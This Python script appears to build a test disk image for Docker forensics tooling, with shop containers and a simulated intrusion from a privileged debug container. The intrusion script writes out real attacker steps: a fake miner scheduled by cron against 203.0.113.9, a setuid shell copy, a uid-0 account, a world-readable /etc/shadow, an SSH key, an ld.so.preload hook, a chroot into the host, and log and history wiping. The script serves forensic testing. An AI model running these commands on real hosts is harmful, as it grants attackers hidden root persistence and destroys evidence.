"""webshop: Docker 26 with overlay2 on ext4 in a GPT partition, cleanly unmounted with containers still marked running.

A small shop: front end, worker that keeps failing, database, an image builder's leftovers, and an intruder who came in
through a privileged debug container.
"""

from __future__ import annotations

import time
from pathlib import Path

from samples.make.disk import Volume, gpt
from samples.make.host import Host
from samples.make.rootfs import base_rootfs, build_context
from samples.make.tools import run
from samples.make.truth import ask_changes, ask_docker, merged_views, save

DOCKERFILE = r"""
FROM base:3.1
LABEL org.example.team=shop
ENV APP=/opt/shop MODE=production
COPY app.ini index.html /opt/shop/
RUN mkdir -p /opt/shop/theme/dark /opt/shop/theme/light && for i in 1 2 3 4 5; do echo $i > /opt/shop/theme/dark/$i.css; \
    echo $i > /opt/shop/theme/light/$i.css; done && ln /opt/shop/theme/dark/1.css /opt/shop/theme/light/same.css
RUN rm -rf /usr/share/locale && mkdir -p /usr/share/locale/de && echo nur das > /usr/share/locale/de/messages
RUN rm /usr/share/doc/base/07.txt /etc/motd && chmod 711 /opt/shop && touch "/opt/shop/$(printf 'two\nlines')"
RUN mv /opt/shop/theme/light /opt/shop/theme/bright && chown -R 1000:1000 /opt/shop/theme
USER 1000
WORKDIR /opt/shop
EXPOSE 8080
CMD ["sh", "-c", "while true; do sleep 3600; done"]
"""

FRONT = r"""
echo listening; echo 'no certificate' >&2
for i in $(seq 60); do echo "GET /item/$i 200 some long line to make the log rotate"; done
echo $$ > /catalog/pid; echo visited >> /opt/shop/index.html
mkdir /opt/shop/cache; cd /opt/shop/cache; touch "$(printf 'caf\351')" "$(printf 'tab\tand\nnewline')" 'back\x5cslash'
rm -rf /opt/shop/theme/dark; mkdir /opt/shop/theme/dark; echo night > /opt/shop/theme/dark/9.css
while true; do sleep 3600; done
"""

DATABASE = r"""
mkdir -p /srv/db/wal; for i in 1 2 3; do echo segment $i > /srv/db/wal/$i; ln /srv/db/wal/$i /srv/db/$i.linked; done
ln /usr/bin/su /srv/db/su-hard; chmod 644 /usr/bin/listen; mkfifo /srv/db/queue
dd if=/dev/zero of=/srv/db/sparse bs=1 count=1 seek=3000000 2>/dev/null
mknod /srv/db/null c 1 3; ln -s ../../../../../../etc/shadow /srv/db/escape; echo page >> /usr/bin/more
touch -d '1969-07-20 20:17:40' /srv/db/moon; touch -d '2040-02-29 12:00:00' /srv/db/leap
mv /usr/share/doc/base /usr/share/doc/old; mkdir /usr/share/doc/base; ln /usr/share/doc/old/01.txt /usr/share/doc/base/01.txt
echo ready; exec sleep 3600
"""

INTRUSION = r"""
id; echo 'downloading' >&2
mkdir -p /var/tmp/.cache/... && dd if=/dev/urandom of=/var/tmp/.cache/.../kworker bs=1024 count=8 2>/dev/null
chmod 755 /var/tmp/.cache/.../kworker; ln /var/tmp/.cache/.../kworker /usr/bin/kworkerd
cp /bin/busybox /usr/bin/.su && chmod 6755 /usr/bin/.su
printf 'daemon2:x:0:0::/root:/bin/sh\n' >> /etc/passwd; chmod 644 /etc/shadow
mkdir -p /root/.ssh /var/spool/cron/crontabs
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOnlyAnExampleForTheSampleNoKeyAtAll guest' > /root/.ssh/authorized_keys
echo '*/5 * * * * /usr/bin/kworkerd -o 203.0.113.9:3333' > /var/spool/cron/crontabs/root
echo '/usr/bin/kworkerd' >> /etc/ld.so.preload
cat /host/etc/docker/daemon.json; chroot /host true 2>/dev/null
echo '#!/bin/sh' > /tmp/stage2.sh; sync; rm -f /tmp/stage2.sh /var/log/build.log /root/.profile
: > /root/.ash_history; exit 137
"""

PLAIN_DISK = ("mkfs.ext4", "-q", "-F", "-b", "4096", "-L", "root")


def write(host: Host) -> None:
    """What happens on the host."""
    host.docker("import", "-c", 'CMD ["sh"]', "-", "base:3.1", stdin=base_rootfs(host.tree / "bin/busybox"))
    files = {"app.ini": "[shop]\ncurrency=EUR\n", "index.html": "<h1>Shop</h1>\n"}
    host.docker("build", "-t", "registry.example:5000/shop/web:1.0", "-", stdin=build_context(DOCKERFILE, files))
    files["index.html"] = "<h1>Shop, now with a sale</h1>\n"
    host.docker("build", "-t", "registry.example:5000/shop/web:1.1", "-", stdin=build_context(DOCKERFILE, files))
    host.docker("tag", "registry.example:5000/shop/web:1.1", "shop:latest")
    host.docker("network", "create", "--subnet", "10.20.30.0/24", "--label", "tier=front", "shopnet")
    host.docker("volume", "create", "--label", "keep=yes", "catalog")
    web = "registry.example:5000/shop/web:1.1"
    host.docker(
        "run", "--detach", "--name", "storefront", "--hostname", "front", "--network", "shopnet", "--ip", "10.20.30.10",
        "--publish", "8080:8080", "--volume", "catalog:/catalog", "--env", "DB_PASSWORD=correct horse", "--restart", "always",
        "--label", "com.docker.compose.project=shop", "--label", "com.docker.compose.service=front", "--user", "0",
        "--log-opt", "max-size=1k", "--log-opt", "max-file=3", web, "sh", "-c", FRONT,
    )  # fmt: skip
    host.docker("run", "--detach", "--name", "database", "--network", "shopnet", "--volume", "/srv/db/data", "base:3.1",
                "sh", "-c", DATABASE)  # fmt: skip
    host.docker("run", "--detach", "--name", "worker", "--restart", "on-failure:2", "--network", "none", "--memory", "64m",
                "shop:latest", "sh", "-c", "echo try; date >> /tmp/tries; exit 7")  # fmt: skip
    host.docker("run", "--name", "report", "--read-only", "--tmpfs", "/tmp", "--network", "none", "--log-driver", "local",
                "--env", "EMPTY=", "--workdir", "/srv", "shop:latest", "sh", "-c", "echo one; echo two >&2; exit 3",
                check=False)  # fmt: skip
    host.docker("create", "--name", "migrate", "--network", "shopnet", "--entrypoint", "sh", "registry.example:5000/shop/web:1.0",
                "-c", "echo never")  # fmt: skip
    host.docker("run", "--name", "debug", "--privileged", "--pid", "host", "--network", "host", "--volume", "/:/host:ro",
                "--volume", "/run/docker.sock:/run/docker.sock", "base:3.1", "sh", "-c", INTRUSION, check=False)  # fmt: skip
    host.docker("run", "--detach", "--name", "importer", "--network", "none", "base:3.1", "sleep", "1000")
    host.docker("exec", "importer", "sh", "-c", "mkdir /srv/in; echo 1 > /srv/in/1; rm -rf /var/cache")
    host.docker("pause", "importer")


def remove_some(host: Host, truth: Path) -> None:
    """Containers and an image that are there no more when the power goes."""
    for name in ("scan-1", "scan-2"):
        host.docker("run", "--name", name, "--network", "none", "--env", f"JOB={name}", "base:3.1", "sh", "-c",
                    f"echo scanning for {name}; echo result of {name} > /root/{name}.txt")  # fmt: skip
    host.sync()
    save(truth, "removed.json", host.ask("inspect", "scan-1", "scan-2"))
    time.sleep(6)  # let the journal be checkpointed, as on any host that lives for a while
    host.docker("rm", "scan-1", "scan-2")


def make(work: Path, truth: Path) -> Path:
    """Make the disk in `work` and its truth in `truth`; returns the image."""
    efi = Volume("efi", 2, None, ("mkfs.vfat", "-F", "12", "-n", "EFI"))
    root = Volume("root", 160, "/", PLAIN_DISK)
    for volume in (efi, root):
        volume.make(work)
    (work / "grub.cfg").write_text("linux /vmlinuz root=PARTLABEL=root\n")
    run("mcopy", "-i", efi.image, work / "grub.cfg", "::/grub.cfg")
    with Host(work, "trixie", [root], "shop-01", {"log-driver": "json-file"}) as host:
        host.start_docker()
        write(host)
        remove_some(host, truth)
        time.sleep(3)  # the worker has given up
        layers = ask_docker(host, truth)
        ask_changes(host, truth)
    disk = work / "disk.img"
    gpt(disk, efi, root)
    merged_views(work, [root], layers, truth, "ro")
    return disk
